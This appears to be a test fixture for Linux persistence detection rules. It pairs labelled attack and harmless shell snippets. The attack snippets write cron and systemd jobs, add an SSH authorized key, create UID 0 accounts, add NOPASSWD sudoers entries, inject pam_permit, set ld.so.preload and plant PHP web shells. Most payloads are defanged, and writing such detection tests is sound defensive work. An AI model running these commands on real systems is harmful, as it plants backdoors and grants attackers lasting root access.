# Persistence (TA0003): what an intruder leaves behind, so as to come back.

#: cron_job_changed attack: shell
echo '* * * * * root true' > /etc/cron.d/update

#: cron_job_changed attack: install
install -m 755 /bin/true /etc/cron.daily/update

#: cron_job_changed attack: python
python3 -c 'open("/var/spool/cron/crontabs/root", "w").write("* * * * * true\n")'

#: cron_job_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/etc/cron.d/tool"
mkdir -p p/DEBIAN p/etc/cron.d
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
echo '* * * * * root true' > p/etc/cron.d/tool
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: cron_job_changed harmless: crontab does it
#: keep file.path startswith "/var/spool/cron/" AND event.action in ["create", "rename"]
echo '@daily true' | crontab -

#: crontab_installed attack: pipe
(crontab -l 2>/dev/null; echo '* * * * * true') | crontab -

#: crontab_installed attack: file by alice
#: by alice
echo '@reboot true' > jobs
crontab jobs

#: crontab_installed harmless: looked at and removed
#: keep process.name == "crontab" AND event.action in ["exec", "delete"]
# The table comes from the package manager's side here, so that there is one to remove.
mkdir -p p/DEBIAN p/var/spool/cron/crontabs
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
echo '@daily true' > p/var/spool/cron/crontabs/root
dpkg-deb --build p >/dev/null && dpkg -i p.deb
crontab -l
crontab -r

#: at_job_added attack: at
echo true | at now + 1 hour

#: at_job_added attack: batch
echo true | batch

#: at_job_added attack: cp
printf '#!/bin/sh\ntrue\n' > job
cp job /var/spool/cron/atjobs/a0000101c8aa00

#: at_job_added harmless: the list and a removal
#: keep process.executable == "/usr/bin/at" AND event.action == "exec"
atq
atrm 1

#: transient_timer_created attack: calendar
# Nobody answers here, since no systemd runs; the command is the same.
systemd-run --on-calendar='*:0/10' /bin/true

#: transient_timer_created attack: link of another name
ln -s /usr/bin/systemd-run /opt/helper
/opt/helper --user --on-active=30 /bin/true

#: transient_timer_created harmless: a command at once
#: keep process.name == "systemd-run"
systemd-run --unit=once /bin/true

#: systemd_unit_changed attack: shell
printf '[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/update.service

#: systemd_unit_changed attack: cp of a timer
printf '[Timer]\nOnCalendar=*:0/10\n' > update.timer
cp update.timer /usr/lib/systemd/system/update.timer

#: systemd_unit_changed attack: systemctl
printf '[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n' > /opt/update.service
systemctl enable /opt/update.service

#: systemd_unit_changed attack: unit of alice
#: by alice
mkdir -p .config/systemd/user
printf '[Service]\nExecStart=/bin/true\n' > .config/systemd/user/update.service

#: systemd_unit_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/usr/lib/systemd/system/tool.service"
mkdir -p p/DEBIAN p/usr/lib/systemd/system
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
printf '[Service]\nExecStart=/bin/true\n' > p/usr/lib/systemd/system/tool.service
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: systemd_hook_added attack: install
mkdir -p /etc/systemd/system-generators
install -m 755 /bin/true /etc/systemd/system-generators/update

#: systemd_hook_added attack: shell
mkdir -p /usr/lib/systemd/system-sleep
printf '#!/bin/sh\n' > /usr/lib/systemd/system-sleep/update

#: systemd_hook_added harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/usr/lib/systemd/system-generators/tool"
mkdir -p p/DEBIAN p/usr/lib/systemd/system-generators
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
install -m 755 /bin/true p/usr/lib/systemd/system-generators/tool
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: init_script_changed attack: shell
printf '#!/bin/sh\ntrue\n' > /etc/rc.local

#: init_script_changed attack: sed
sed -i '2i true' /etc/init.d/cron

#: init_script_changed attack: ln
ln -s ../init.d/ssh /etc/rc2.d/S99update

#: init_script_changed harmless: update-rc.d enables a service
#: keep process.name == "update-rc.d" AND file.path glob "/etc/rc2.d/*" AND event.action in ["rename", "symlink"]
update-rc.d cron disable
update-rc.d cron enable

#: network_hook_changed attack: install
mkdir -p /etc/network/if-up.d
install -m 755 /bin/true /etc/network/if-up.d/update

#: network_hook_changed attack: shell
mkdir -p /etc/NetworkManager/dispatcher.d
printf '#!/bin/sh\ntrue\n' > /etc/NetworkManager/dispatcher.d/90-update

#: network_hook_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/etc/network/if-up.d/tool"
mkdir -p p/DEBIAN p/etc/network/if-up.d
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
install -m 755 /bin/true p/etc/network/if-up.d/tool
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: udev_rule_changed attack: shell
echo 'SUBSYSTEM=="net", RUN+="/bin/true"' > /etc/udev/rules.d/75-update.rules

#: udev_rule_changed attack: mv
echo 'SUBSYSTEM=="net", RUN+="/bin/true"' > update.rules
mv update.rules /usr/lib/udev/rules.d/75-update.rules

#: udev_rule_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/usr/lib/udev/rules.d/60-tool.rules"
mkdir -p p/DEBIAN p/usr/lib/udev/rules.d
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
echo 'SUBSYSTEM=="usb", MODE="0660"' > p/usr/lib/udev/rules.d/60-tool.rules
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: module_autoload_changed attack: shell
echo update >> /etc/modules

#: module_autoload_changed attack: tee
echo 'install usb-storage /bin/true' | tee /etc/modprobe.d/update.conf

#: module_autoload_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/usr/lib/modules-load.d/tool.conf"
mkdir -p p/DEBIAN p/usr/lib/modules-load.d
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
echo fuse > p/usr/lib/modules-load.d/tool.conf
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: kernel_module_installed attack: install
# It is no module, and nothing loads it.
mkdir -p /lib/modules/6.1.0/extra
echo no module > update.ko
install -m 644 update.ko /lib/modules/6.1.0/extra/update.ko

#: kernel_module_installed attack: mv
mkdir -p /lib/modules/6.1.0/extra
echo no module > update.ko.xz
mv update.ko.xz /lib/modules/6.1.0/extra/

#: kernel_module_installed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/lib/modules/6.1.0/extra/tool.ko"
mkdir -p p/DEBIAN p/lib/modules/6.1.0/extra
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
echo no module > p/lib/modules/6.1.0/extra/tool.ko
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: shell_startup_changed attack: shell
echo 'true' > /etc/profile.d/update.sh

#: shell_startup_changed attack: sed
sed -i '$a true' .bashrc

#: shell_startup_changed attack: tee by alice
#: by alice
echo 'alias sudo=true' | tee -a .bashrc

#: shell_startup_changed harmless: a new account's home
#: keep event.action == "create" AND file.path glob "/home/*/.bashrc"
useradd --create-home --shell /bin/bash bob
adduser --disabled-password --gecos '' carol

#: motd_script_changed attack: shell
printf '#!/bin/sh\ntrue\n' > /etc/update-motd.d/99-update

#: motd_script_changed attack: perl
perl -e 'open(F, ">>", "/etc/update-motd.d/10-uname"); print F "true\n"'

#: motd_script_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/etc/update-motd.d/50-tool"
mkdir -p p/DEBIAN p/etc/update-motd.d
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
install -m 755 /bin/true p/etc/update-motd.d/50-tool
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: pam_changed attack: sed
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/sshd

#: pam_changed attack: shell
echo 'session optional pam_exec.so /bin/true' >> /etc/pam.d/common-session

#: pam_changed harmless: pam-auth-update
#: keep process.name == "pam-auth-update" AND event.action in ["create", "write", "rename"] AND file.path glob "/etc/pam.d/common-{auth,session}"
DEBIAN_FRONTEND=noninteractive pam-auth-update --force

#: pam_module_changed attack: cp
cp /lib/x86_64-linux-gnu/security/pam_permit.so pam.so
cp pam.so /lib/x86_64-linux-gnu/security/pam_unix.so

#: pam_module_changed attack: install
install -m 644 /lib/x86_64-linux-gnu/security/pam_permit.so /usr/lib/x86_64-linux-gnu/security/pam_update.so

#: pam_module_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/usr/lib/x86_64-linux-gnu/security/pam_tool.so"
mkdir -p p/DEBIAN p/usr/lib/x86_64-linux-gnu/security
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
cp /usr/lib/x86_64-linux-gnu/security/pam_permit.so p/usr/lib/x86_64-linux-gnu/security/pam_tool.so
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: ssh_key_added attack: shell
echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA >> .ssh/authorized_keys

#: ssh_key_added attack: mv
echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA > keys
mv keys .ssh/authorized_keys

#: ssh_key_added attack: ln
mkdir /opt/keys
echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA > /opt/keys/authorized_keys
mv .ssh .ssh.old
ln -s /opt/keys .ssh

#: ssh_key_added attack: authorized_keys2 of a user
mkdir -p /home/alice/.ssh
echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA | tee /home/alice/.ssh/authorized_keys2

#: ssh_key_added harmless: a key is made
#: keep process.name == "ssh-keygen" AND file.path glob "/root/.ssh/*" AND event.action == "create"
ssh-keygen -q -t ed25519 -N '' -f .ssh/id_ed25519

#: sshd_configuration_changed attack: sed
sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config

#: sshd_configuration_changed attack: shell
echo 'AuthorizedKeysFile /opt/keys' > /etc/ssh/sshd_config.d/10-update.conf

#: sshd_configuration_changed harmless: the client's configuration
#: keep file.path startswith "/etc/ssh/" AND event.action in ["create", "write"]
echo 'Host a' > /etc/ssh/ssh_config.d/a.conf
echo >> /etc/ssh/ssh_config

#: account_created attack: useradd
useradd --create-home support

#: account_created attack: adduser
adduser --disabled-password --gecos '' support

#: account_created attack: newusers
echo 'support:x9-Kw2q:1500:1500::/home/support:/bin/bash' | newusers

#: account_created harmless: a package makes one
#: keep process.name == "useradd" AND event.action == "exec"
mkdir -p p/DEBIAN
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
printf '#!/bin/sh\nuseradd --system tool\n' > p/DEBIAN/postinst
chmod 755 p/DEBIAN/postinst
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: account_created harmless: a group is made
#: keep process.name in ["groupadd", "addgroup"] AND event.action == "exec"
groupadd team
addgroup others

#: uid_zero_account attack: useradd
useradd --non-unique --uid 0 support

#: uid_zero_account attack: useradd ou0
useradd -ou0 support

#: uid_zero_account attack: usermod
usermod -o -u 0 alice

#: uid_zero_account harmless: another id
#: keep process.name in ["useradd", "usermod"] AND event.action == "exec"
useradd -u 2000 -g 0 bob
usermod -u 3000 -c 'u 0' bob

#: account_files_changed attack: shell
echo 'support:x:0:0::/root:/bin/bash' >> /etc/passwd

#: account_files_changed attack: sed
sed -i 's/^alice:x:1000/alice:x:0/' /etc/passwd

#: account_files_changed attack: copy of useradd
cp /usr/sbin/useradd /opt/update
/opt/update support

#: account_files_changed attack: hard link
ln /etc/shadow /opt/notes

#: account_files_changed harmless: useradd and chpasswd
#: keep event.action == "rename" AND file.path in ["/etc/passwd", "/etc/shadow"]
useradd bob
echo bob:x9-Kw2q | chpasswd

#: account_files_changed harmless: a user's own password
#: keep process.name in ["passwd", "unix_update"] AND (event.action == "exec" OR event.action == "rename")
#: by alice
echo alice:x9-Kw2q | sudo chpasswd
printf 'x9-Kw2q\nUi3-trb9p\nUi3-trb9p\n' | passwd

#: account_files_changed harmless: vipw
#: keep event.action == "rename" AND file.path == "/etc/passwd"
printf '#!/bin/sh\necho bob:x:2000:2000::/home/bob:/bin/sh >> "$1"\n' > edit
chmod 755 edit
EDITOR=/root/edit vipw

#: password_set_for_root attack: chpasswd
echo root:x9-Kw2q | chpasswd

#: password_set_for_root attack: passwd
printf 'x9-Kw2q\nx9-Kw2q\n' | passwd

#: password_set_for_root attack: usermod
usermod -p "$(openssl passwd -6 x9-Kw2q)" root

#: password_set_for_root harmless: a user's own and the status of root's
#: keep process.executable == "/usr/bin/passwd" AND event.action == "exec"
#: by alice
printf '\n' | passwd
sudo passwd --status root

#: system_account_unlocked attack: usermod
usermod -s /bin/bash www-data

#: system_account_unlocked attack: passwd
printf 'x9-Kw2q\nx9-Kw2q\n' | passwd backup

#: system_account_unlocked attack: chsh
chsh --shell /bin/bash nobody

#: system_account_unlocked harmless: locked
#: keep process.executable in ["/usr/sbin/usermod", "/usr/bin/passwd"] AND event.action == "exec"
usermod -s /usr/sbin/nologin www-data
usermod -L backup
passwd -l games
usermod -s /bin/bash alice

#: admin_group_joined attack: usermod
usermod -aG sudo alice

#: admin_group_joined attack: gpasswd
gpasswd -a alice shadow

#: admin_group_joined attack: adduser
adduser alice sudo

#: admin_group_joined harmless: another group and out of it
#: keep process.name in ["usermod", "gpasswd"] AND event.action == "exec"
usermod -aG games alice
gpasswd -a alice sudoku
gpasswd -d alice sudo

#: sudoers_changed attack: shell
echo 'alice ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/update

#: sudoers_changed attack: visudo without a terminal
printf '#!/bin/sh\nfor file; do :; done\necho "# more" >> "$file"\n' > edit
chmod 755 edit
EDITOR=/root/edit visudo

#: sudoers_changed harmless: visudo at a terminal
#: keep process.name == "visudo" AND event.action in ["create", "rename"]
printf '#!/bin/sh\nfor file; do :; done\necho "# more" >> "$file"\n' > edit
chmod 755 edit
EDITOR=/root/edit script -qec visudo /dev/null

#: ld_so_preload_changed attack: shell
# The library is not there: the linker says so, and goes on.
echo /opt/libupdate.so > /etc/ld.so.preload

#: ld_so_preload_changed attack: mv
echo /opt/libupdate.so > preload
mv preload /etc/ld.so.preload

#: ld_so_preload_changed harmless: looked at and a like name
#: keep process.name in ["bash", "cat"] AND file.path startswith "/etc/ld.so"
cat /etc/ld.so.preload
echo /opt > /etc/ld.so.preload.bak

#: ld_so_preload_changed_in_container attack: shell
#: by container
echo /opt/libupdate.so > /etc/ld.so.preload

#: ld_so_preload_changed_in_container harmless: another file of the linker
#: keep file.path startswith "/etc/ld.so"
#: by container
echo /opt/lib > /etc/ld.so.conf.d/opt.conf

#: ld_so_configuration_changed attack: shell
mkdir /opt/lib
echo /opt/lib > /etc/ld.so.conf.d/00-update.conf

#: ld_so_configuration_changed attack: mv of the cache
cp /etc/ld.so.cache cache
mv cache /etc/ld.so.cache

#: ld_so_configuration_changed harmless: ldconfig
#: keep process.name == "ldconfig" AND event.action in ["create", "rename"]
ldconfig

#: trusted_program_replaced attack: mv
cp /usr/bin/ss ss
mv ss /usr/bin/ss

#: trusted_program_replaced attack: cp
cp /usr/sbin/sshd sshd
cp sshd /usr/sbin/sshd

#: trusted_program_replaced attack: install of a library
install -m 644 /usr/lib/x86_64-linux-gnu/libpam.so.0 /usr/lib/x86_64-linux-gnu/libpam.so.0.99.9

#: trusted_program_replaced harmless: a package replaces one
#: keep event.action == "rename" AND file.path == "/usr/bin/top"
mkdir -p p/DEBIAN p/usr/bin
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
install -m 755 /bin/true p/usr/bin/top
dpkg-deb --build p >/dev/null && dpkg --force-overwrite -i p.deb

#: system_program_changed attack: cp
cp /bin/true /usr/bin/update-helper

#: system_program_changed attack: mv
mv /usr/bin/xxd /usr/bin/xxd.real
cp /bin/true /usr/bin/xxd

#: system_program_changed attack: ln
cd /sbin
ln -s /opt/update update-helper

#: system_program_changed harmless: update-alternatives and usr local
#: keep event.action in ["create", "symlink", "rename"] AND file.path glob "/usr/{bin,local/bin}/tool*"
install -m 755 /bin/true /usr/local/bin/tool-1
update-alternatives --install /usr/bin/tool tool /usr/local/bin/tool-1 1

#: system_program_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/usr/bin/tool"
mkdir -p p/DEBIAN p/usr/bin
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
install -m 755 /bin/true p/usr/bin/tool
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: system_library_changed attack: cp
cp /usr/lib/x86_64-linux-gnu/libpopt.so.0 /usr/lib/x86_64-linux-gnu/libupdate.so.1

#: system_library_changed attack: ln
cp /usr/lib/x86_64-linux-gnu/libpopt.so.0 /opt/libpopt.so.0
ln -sf /opt/libpopt.so.0 /usr/lib/x86_64-linux-gnu/libpopt.so.0

#: system_library_changed harmless: ldconfig makes links
#: keep process.name == "ldconfig" AND file.name startswith "libpopt"
rm /usr/lib/x86_64-linux-gnu/libpopt.so.0
ldconfig

#: system_library_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/usr/lib/x86_64-linux-gnu/libtool.so.1"
mkdir -p p/DEBIAN p/usr/lib/x86_64-linux-gnu
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
cp /usr/lib/x86_64-linux-gnu/libpopt.so.0 p/usr/lib/x86_64-linux-gnu/libtool.so.1
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: python_startup_changed attack: shell
echo 'import os; os.getpid()' > /usr/lib/python3/dist-packages/update.pth
python3 -c ''

#: python_startup_changed attack: python by alice
#: by alice
python3 -c 'import os; d = ".local/lib/python3.11/site-packages"; os.makedirs(d); open(d + "/usercustomize.py", "w").write("pass\n")'

#: python_startup_changed harmless: a copy of the configuration
#: keep file.name == "sitecustomize.py"
cp -r /etc/python3.11 /opt/backup

#: python_startup_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/usr/lib/python3/dist-packages/tool.pth"
mkdir -p p/DEBIAN p/usr/lib/python3/dist-packages
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
echo /usr/share/tool > p/usr/lib/python3/dist-packages/tool.pth
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: package_manager_hook_added attack: shell
echo 'APT::Update::Pre-Invoke {"true";};' > /etc/apt/apt.conf.d/99update

#: package_manager_hook_added attack: sed
sed -i '2i true' /var/lib/dpkg/info/cron.postinst

#: package_manager_hook_added harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/etc/apt/apt.conf.d/50tool"
mkdir -p p/DEBIAN p/etc/apt/apt.conf.d
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
echo 'APT::Periodic::Enable "1";' > p/etc/apt/apt.conf.d/50tool
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: boot_files_changed attack: cp
echo no initramfs > initrd
cp initrd /boot/initrd.img-6.1.0

#: boot_files_changed attack: shell
echo 'GRUB_CMDLINE_LINUX="init=/opt/update"' >> /etc/default/grub

#: boot_files_changed harmless: a package brings a kernel
#: keep event.action == "rename" AND file.path == "/boot/vmlinuz-6.1.0"
mkdir -p p/DEBIAN p/boot
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
echo no kernel > p/boot/vmlinuz-6.1.0
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: desktop_autostart_changed attack: shell by alice
#: by alice
mkdir -p .config/autostart
printf '[Desktop Entry]\nType=Application\nName=Update\nExec=true\n' > .config/autostart/update.desktop

#: desktop_autostart_changed attack: cp
mkdir -p /etc/xdg/autostart
printf '[Desktop Entry]\nType=Application\nName=Update\nExec=true\n' > update.desktop
cp update.desktop /etc/xdg/autostart/

#: desktop_autostart_changed harmless: a package brings one
#: keep event.action == "rename" AND file.path == "/etc/xdg/autostart/tool.desktop"
mkdir -p p/DEBIAN p/etc/xdg/autostart
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.com>\nDescription: a tool\n' > p/DEBIAN/control
echo '[Desktop Entry]' > p/etc/xdg/autostart/tool.desktop
dpkg-deb --build p >/dev/null && dpkg -i p.deb

#: web_script_written_by_server attack: php
cat > /var/www/html/page.php <<'EOF'
<?php file_put_contents('/var/www/html/cache.php', '<?php system($_GET["c"]);');
EOF
chown -R www-data /var/www/html
setpriv --reuid=www-data --regid=www-data --clear-groups php -S 127.0.0.1:8080 -t /var/www/html &
until ss -ltn | grep -q :8080; do sleep 0.02; done
curl -s http://127.0.0.1:8080/page.php
kill $!

#: web_script_written_by_server attack: apache2 WebDAV
echo '<?php system($_GET["c"]);' > page.php
for module in mpm_prefork authz_core dav dav_fs; do
    echo "LoadModule ${module}_module /usr/lib/apache2/modules/mod_$module.so"
done > httpd.conf
cat >> httpd.conf <<'EOF'
ServerName localhost
Listen 127.0.0.1:8080
PidFile /run/httpd.pid
ErrorLog /run/httpd.log
User www-data
Group www-data
StartServers 1
DocumentRoot /var/www/html
DavLockDB /tmp/dav
<Directory /var/www/html>
    Dav On
</Directory>
EOF
chown -R www-data /var/www/html
apache2 -X -f /root/httpd.conf &
until ss -ltn | grep -q :8080; do sleep 0.02; done
curl -s -T page.php http://127.0.0.1:8080/page.php
kill $!

#: web_script_written_by_server harmless: a text is uploaded
#: keep process.name == "php" AND file.path startswith "/var/www/html/uploads/" AND event.action in ["create", "rename"]
mkdir /var/www/html/uploads
echo hello > notes.txt
cat > /var/www/html/page.php <<'EOF'
<?php move_uploaded_file($_FILES['file']['tmp_name'], '/var/www/html/uploads/' . $_FILES['file']['name']);
EOF
chown -R www-data /var/www/html
setpriv --reuid=www-data --regid=www-data --clear-groups php -S 127.0.0.1:8080 -t /var/www/html &
until ss -ltn | grep -q :8080; do sleep 0.02; done
curl -s -F file=@notes.txt http://127.0.0.1:8080/page.php
kill $!

#: web_shell_written attack: apache2 CGI
mkdir -p /opt/cgi-bin
printf '#!/bin/sh\ncat > /var/www/html/cache.php\nprintf "Content-Type: text/plain\\n\\n"\n' > /opt/cgi-bin/upload
chmod 755 /opt/cgi-bin/upload
for module in mpm_prefork authz_core alias cgi; do
    echo "LoadModule ${module}_module /usr/lib/apache2/modules/mod_$module.so"
done > httpd.conf
cat >> httpd.conf <<'EOF'
ServerName localhost
Listen 127.0.0.1:8080
PidFile /run/httpd.pid
ErrorLog /run/httpd.log
User www-data
Group www-data
StartServers 1
DocumentRoot /var/www/html
ScriptAlias /cgi-bin/ /opt/cgi-bin/
<Directory /opt/cgi-bin>
    Require all granted
</Directory>
EOF
chown -R www-data /var/www/html
apache2 -X -f /root/httpd.conf &
until ss -ltn | grep -q :8080; do sleep 0.02; done
curl -s --data-binary '<?php system($_GET["c"]);' http://127.0.0.1:8080/cgi-bin/upload
kill $!

#: web_shell_written attack: php into uploads
mkdir /var/www/html/uploads
echo '<?php system($_GET["c"]);' > picture.php
cat > /var/www/html/page.php <<'EOF'
<?php move_uploaded_file($_FILES['file']['tmp_name'], '/var/www/html/uploads/' . $_FILES['file']['name']);
EOF
chown -R www-data /var/www/html
setpriv --reuid=www-data --regid=www-data --clear-groups php -S 127.0.0.1:8080 -t /var/www/html &
until ss -ltn | grep -q :8080; do sleep 0.02; done
curl -s -F file=@picture.php http://127.0.0.1:8080/page.php
kill $!

#: web_shell_written harmless: an administrator's deployment
#: keep process.name in ["cp", "bash"] AND file.extension == "php"
echo '<?php phpinfo();' > index.php
mkdir /var/www/html/uploads
cp index.php /var/www/html/index.php
cp index.php /var/www/html/uploads/index.php

#: persistence_by_server attack: php
# As root, as on devices and in badly made images.
cat > /var/www/html/page.php <<'EOF'
<?php file_put_contents('/etc/cron.d/update', "* * * * * root true\n");
EOF
php -S 127.0.0.1:8080 -t /var/www/html &
until ss -ltn | grep -q :8080; do sleep 0.02; done
curl -s http://127.0.0.1:8080/page.php
kill $!

#: persistence_by_server attack: postgres
setpriv --reuid=postgres --regid=postgres --init-groups sh -ec '
cd /var/lib/postgresql
mkdir -p .ssh
/usr/lib/postgresql/15/bin/initdb --no-sync --no-instructions -D /tmp/data >/dev/null
echo "COPY (SELECT \$\$ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\$\$) TO \$\$/var/lib/postgresql/.ssh/authorized_keys\$\$" | /usr/lib/postgresql/15/bin/postgres --single -D /tmp/data postgres'

#: persistence_by_server harmless: a database's own export
#: keep process.name == "postgres" AND file.name == "export.csv"
setpriv --reuid=postgres --regid=postgres --init-groups sh -ec '
cd /var/lib/postgresql
/usr/lib/postgresql/15/bin/initdb --no-sync --no-instructions -D /tmp/data >/dev/null
echo "COPY (SELECT 1) TO \$\$/var/lib/postgresql/export.csv\$\$" | /usr/lib/postgresql/15/bin/postgres --single -D /tmp/data postgres'
